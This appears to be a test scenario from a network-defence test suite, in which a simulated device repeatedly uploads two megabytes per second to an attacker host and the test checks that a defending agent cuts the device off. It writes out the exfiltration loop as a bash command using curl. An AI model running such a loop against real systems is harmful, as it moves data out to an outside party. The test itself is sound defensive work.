/** A device that sends what it knows to a stranger. */
import type { Scenario } from '../scenario.ts';

export const scenario: Scenario = {
  group: 'attacks',
  awaits: 'a model bundle that sees it; cnn-lstm-7 does not within the time given',
  attack: 'data_exfiltration',
  expectation:
    'curl on the device uploads two megabytes to one host outside every second: the device is kept from that host, or shut in.',
  honestClientVisits: 'neighbour',
  limitSeconds: 180,
  async run(field) {
    await field.startAgent();
    const { attacker: thief, device } = field.network;
    await field.network.serve(thief, 'web');
    field.expect('the device reaches the stranger before', await field.network.getsPage(device, thief.address));
    const theft = `while :; do head -c 2000000 /dev/urandom | curl -s -m 20 --data-binary @- -o /dev/null http://${thief.address}/status; sleep 1; done`;
    const either = `${thief.address}|${device.address}|${device.mac}`;
    await field.attackUntilRestricted(device, ['bash', '-c', theft], either, {
      leg: 'lan0',
      isPattern: true,
      deadlineMs: 120_000,
    });
    const reaches = await field.network.getsPage(device, thief.address);
    field.expect('the device no longer reaches the stranger', !reaches, reaches ? 'got the page' : 'got nothing');
  },
};
